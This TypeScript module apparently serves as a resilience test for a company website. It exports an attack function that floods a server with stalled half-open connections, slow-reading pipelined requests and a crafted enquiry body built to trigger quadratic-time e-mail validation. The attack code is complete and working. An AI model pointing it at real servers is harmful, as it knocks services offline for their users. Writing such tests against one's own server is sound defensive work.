import { setMaxListeners } from 'node:events';
import { request } from 'node:http';
import { connect } from 'node:net';
import { enquiryAddress } from '@site/shared/company/company';
import { sampleEnquiry } from './sample-enquiry';

/** Connections that send half a request and never close. */
const stalled = 300;

/** Connections that request many pages and read none. */
const slowReaders = 60;

/** Takes most patterns for e-mail addresses quadratic time. */
const craftedBody = JSON.stringify({ ...sampleEnquiry, email: `${'@'.repeat(40_000)} ` });

/**
 * Attacks a server from several addresses of this machine, and reopens what the server closes.
 * @param address the server's, which has to listen on IPv4
 * @returns a function that stops the attack
 */
export function attack(address: string): () => void {
  const { port, hostname } = new URL(address);
  const place = { port: Number(port), host: hostname.replace('localhost', '127.0.0.1') };
  const controller = new AbortController();
  const { signal } = controller;
  setMaxListeners(0, signal);

  function keepOpen(localAddress: string, bytes: string, paused: boolean) {
    if (signal.aborted) return;
    // Half open: it never closes its own side.
    const socket = connect({ ...place, localAddress, allowHalfOpen: true });
    const end = () => socket.destroy();
    signal.addEventListener('abort', end);
    socket
      .on('error', () => {})
      .on('close', () => {
        signal.removeEventListener('abort', end);
        setTimeout(() => keepOpen(localAddress, bytes, paused), 100);
      });
    socket.write(bytes);
    if (paused) {
      // A client that does not read does not notice a closed connection.
      socket.pause();
      setTimeout(end, 20_000).unref();
    } else {
      // A server that closed only its side still has the connection; one that destroyed it sends a reset.
      socket.resume().once('end', () => {
        const timer = setInterval(() => socket.write('x'), 500);
        socket.once('close', () => clearInterval(timer));
      });
    }
  }

  function sendCrafted() {
    if (signal.aborted) return;
    const headers = { 'content-type': 'application/json', 'content-length': craftedBody.length };
    const options = { ...place, path: enquiryAddress, method: 'POST', headers, agent: false, signal };
    const sent = request({ ...options, localAddress: '127.0.3.1' }, (response) => response.resume());
    sent.on('error', () => {}).on('close', () => setTimeout(sendCrafted, 200));
    sent.end(craftedBody);
  }

  const uploadHead = `POST ${enquiryAddress} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`;
  for (let number = 0; number < stalled; number++)
    keepOpen(`127.0.1.${1 + (number % 3)}`, number % 2 ? 'GET / HTTP/1.1\r\nHost:' : uploadHead, false);
  for (let number = 0; number < slowReaders; number++)
    keepOpen('127.0.2.1', 'GET / HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(60), true);
  sendCrafted();
  return () => controller.abort();
}
